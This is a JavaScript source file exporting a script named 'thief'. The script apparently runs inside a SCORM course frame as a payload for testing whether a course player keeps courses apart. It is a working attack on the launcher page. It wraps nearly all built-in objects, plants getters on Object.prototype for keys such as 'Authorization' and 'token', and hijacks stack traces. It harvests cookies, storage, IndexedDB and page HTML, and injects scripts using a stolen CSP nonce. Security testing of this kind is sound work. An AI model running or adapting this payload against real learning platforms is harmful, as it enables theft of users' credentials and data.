/**
 * A course's script that listens to everything a script of the launcher's origin can: what it hears stands in `heard`, as
 * lines of "where: what". It changes the launcher's world (`P`) and keeps to its own for its work.
 */
export const thief = `
var P = parent, api = P.API, heard = window.heard = [], told = new Set(), busy = false, seen;
window.onunhandledrejection = P.onunhandledrejection = function (e) { e.preventDefault() };

function keep(where, what) {
  try {
    var line = String(typeof what === 'string' ? what : JSON.stringify(what)).slice(0, 20000);
    if (!told.has(line)) { told.add(line); heard.push(where + ': ' + line); }
  } catch (e) {}
}
function walk(where, value, deep) {
  if (busy) return;
  busy = true; seen = new Set();
  try { look(where, value, deep === undefined ? 1 : deep); } finally { busy = false; }
}
function look(where, value, deep) {
  if (typeof value === 'string') return keep(where, value);
  if (value === null || (typeof value !== 'object' && typeof value !== 'function') || deep < 0 || seen.has(value)) return;
  seen.add(value);
  if (typeof value === 'function') keep(where + '()', Function.prototype.toString.call(value));
  var names = [];
  try { names = Reflect.ownKeys(value); } catch (e) {}
  for (var i = 0; i < names.length && i < 300; i++) { try { look(where + '.' + String(names[i]), value[names[i]], deep - 1); } catch (e) {} }
}

// Whatever the player calls from now on, of what a page can replace, tells what it is called on and with.
function wrap(owner, name, where) {
  try {
    var slot = Object.getOwnPropertyDescriptor(owner, name);
    if (!slot || !slot.configurable) return;
    var spy = function (old) {
      return function () {
        walk(where + ' on', this);
        for (var i = 0; i < arguments.length; i++) walk(where + ' with', arguments[i]);
        var answer = new.target ? Reflect.construct(old, arguments, new.target) : Reflect.apply(old, this, arguments);
        walk(where + ' gave', answer, 0);
        return answer;
      };
    };
    if (typeof slot.value === 'function') {
      var made = spy(slot.value);
      made.prototype = slot.value.prototype;
      try { Object.setPrototypeOf(made, slot.value); } catch (e) {}
      slot.value = made;
    } else {
      if (slot.get) slot.get = spy(slot.get);
      if (slot.set) slot.set = spy(slot.set);
    }
    Object.defineProperty(owner, name, slot);
    wrapped += 1;
  } catch (e) {}
}
var wrapped = window.wrapped = 0;
function wrapAll(where, owner, except) {
  if (!owner) return;
  Reflect.ownKeys(owner).forEach(function (name) {
    if (name !== 'constructor' && name !== 'prototype' && !(except || []).includes(name)) wrap(owner, name, where + '.' + String(name));
  });
  window.wrapped = wrapped;
}
var iterator = new P.Array()[Symbol.iterator]();
[
  'Object', 'Function', 'Array', 'String', 'Number', 'RegExp', 'Promise', 'Map', 'Set', 'WeakMap', 'Error', 'Date', 'Symbol', 'URL',
  'Headers', 'Request', 'Response', 'AbortSignal', 'AbortController', 'Blob', 'TextEncoder', 'TextDecoder', 'CompressionStream',
  'ReadableStream', 'EventTarget', 'Event', 'MessageEvent', 'MessagePort', 'Node', 'Element', 'HTMLElement', 'HTMLIFrameElement', 'Document',
  'History', 'Navigator', 'Performance', 'Storage', 'SubtleCrypto', 'Crypto', 'IDBFactory', 'IDBObjectStore', 'XMLHttpRequest',
  'LockManager', 'BroadcastChannel', 'Window',
].forEach(function (name) {
  var made = P[name];
  if (!made) return;
  wrapAll(name, made);
  wrapAll(name + '.prototype', made.prototype);
});
[['Reflect', P.Reflect], ['JSON', P.JSON], ['Math', P.Math], ['iterator', Object.getPrototypeOf(iterator)], ['iterators', Object.getPrototypeOf(Object.getPrototypeOf(iterator))]].forEach(function (one) { wrapAll(one[0], one[1]); });
wrapAll('window', P, ['parent', 'top', 'self', 'window', 'frames', 'API', 'API_1484_11', 'eval', 'Infinity', 'NaN', 'undefined', 'Promise', 'Object', 'Function', 'Array', 'Symbol', 'Error']);

// What the browser may look for on what it is handed.
[P.Symbol.iterator, P.Symbol.asyncIterator, P.Symbol.toPrimitive, P.Symbol.toStringTag, 'toJSON', 'headers', 'Authorization', 'authorization', 'body', 'signal', 'key', 'token', 'window', 'mode', 'referrer', 'referrerPolicy', 'priority', 'integrity', 'duplex', 'ask', 'launch', 'get', 'set', 'value'].forEach(function (name) {
  try {
    Object.defineProperty(P.Object.prototype, name, {
      configurable: true,
      get: function () { walk('asked for ' + String(name), this); return undefined; },
      set: function (v) { walk('given ' + String(name), v); Object.defineProperty(this, name, { value: v, writable: true, configurable: true, enumerable: true }); },
    });
  } catch (e) {}
});
[P.Error, Error].forEach(function (E) {
  E.prepareStackTrace = function (e, frames) { frames.forEach(function (f) { try { walk('on the stack', [f.getThis(), f.getFunction(), f.getFunctionName()]); } catch (e) {} }); return ''; };
  E.stackTraceLimit = 100;
});
new MutationObserver(function (records) { records.forEach(function (r) { keep('changed', r.target.outerHTML || r.target.data); }); })
  .observe(P.document, { subtree: true, childList: true, attributes: true, characterData: true });
['message', 'storage', 'hashchange', 'popstate', 'error', 'click'].forEach(function (name) { P.addEventListener(name, function (e) { walk('event', e, 2); }, true); addEventListener(name, function (e) { walk('event', e, 2); }, true); });

// What is lying about.
function lookAround(where, w) {
  try { keep(where + ' address', w.location.href); keep(where + ' state', w.history.state); keep(where + ' name', w.name); } catch (e) {}
  try { keep(where + ' page', w.document.documentElement.outerHTML); keep(where + ' cookie', w.document.cookie); keep(where + ' referrer', w.document.referrer); } catch (e) {}
  try { keep(where + ' times', w.performance.getEntries().map(function (e) { return e.name + JSON.stringify(e); })); } catch (e) {}
  try { keep(where + ' ways', w.navigation.entries().map(function (e) { return e.url + JSON.stringify(e.getState()); })); keep(where + ' from', w.navigation.activation.from.url); } catch (e) {}
  try { keep(where + ' stores', [JSON.stringify(w.localStorage), JSON.stringify(w.sessionStorage)]); } catch (e) {}
}
// Values that look at who reads them.
function spyingValue() {
  var look = function () { try { walk('caller', arguments.callee.caller, 2); } catch (e) {} try { new Error('who').stack; } catch (e) {} return '5'; };
  var value = { toString: look, valueOf: look };
  value[Symbol.toPrimitive] = look;
  return value;
}
function frameOf(url) {
  return new Promise(function (resolve) {
    var f = document.createElement('iframe');
    f.onload = function () { setTimeout(function () { lookAround('a frame of ' + url, f.contentWindow); walk('its window', f.contentWindow, 1); resolve(); }, 100); };
    f.src = url;
    document.body.appendChild(f);
  });
}
/** A script in the launcher's own world: what its policy wants of scripts can be read there. */
function scriptIn(w, what) {
  return new Promise(function (resolve) {
    var s = Object.assign(w.document.createElement('script'), { nonce: w.document.querySelector('script[nonce]').nonce }, what);
    s.onload = s.onerror = resolve;
    w.document.body.appendChild(s);
    setTimeout(resolve, 200);
  });
}
async function inTheBrowser() {
  try { keep('databases', await indexedDB.databases()); } catch (e) {}
  try { for (var one of await indexedDB.databases()) keep('records', await new Promise(function (resolve) {
    var asked = indexedDB.open(one.name);
    asked.onsuccess = function () {
      var all = [], names = Array.from(asked.result.objectStoreNames);
      if (!names.length) return resolve(all);
      var t = asked.result.transaction(names);
      names.forEach(function (n) { t.objectStore(n).getAll().onsuccess = function (e) { all.push(n, e.target.result); }; });
      t.oncomplete = function () { resolve(all); };
    };
    asked.onerror = function () { resolve([]); };
  })); } catch (e) {}
  try { keep('caches', await caches.keys()); } catch (e) {}
  try { keep('cookies', await cookieStore.getAll()); } catch (e) {}
  try { keep('locks', await navigator.locks.query()); } catch (e) {}
  try { keep('workers', await navigator.serviceWorker.getRegistrations()); } catch (e) {}
}
async function steal() {
  api.LMSInitialize('');
  api.LMSSetValue('cmi.core.lesson_location', spyingValue());
  api.LMSSetValue(spyingValue(), spyingValue());
  ['settings', 'token', 'key', 'xhrHeaders.Authorization', 'settings.xhrHeaders.Authorization', 'cmi.__proto__', '__proto__', 'constructor', spyingValue()].forEach(function (n) { keep('value', api.LMSGetValue(n)); });
  api.LMSCommit('');
  lookAround('launcher', P); lookAround('mine', window);
  walk('window', P, 2); walk('document', P.document, 2); walk('api', api, 3);
  try { walk('opener', P.opener, 2); } catch (e) {}
  await frameOf('/play'); await frameOf('/play?x=1'); await inTheBrowser();
  for (var path of ['/player/player.js', '/player/player.js?again']) {
    try { var m = await import(path); keep('module', Object.keys(m)); walk('module', m, 2); } catch (e) { keep('module', String(e)); }
  }
  await scriptIn(P, { src: '/player/player.js?once-more', type: 'module' });
  await scriptIn(P, { text: "import('/player/player.js').then(function (m) { window.mine = m; });" });
  walk('module', P.mine, 2);
  await new Promise(function (r) { setTimeout(r, 300); });
  api.LMSSetValue('cmi.core.lesson_status', 'completed');
  api.LMSCommit('');
  await new Promise(function (r) { setTimeout(r, 400); });
  await inTheBrowser(); lookAround('launcher', P); walk('window', P, 2);
}
`;
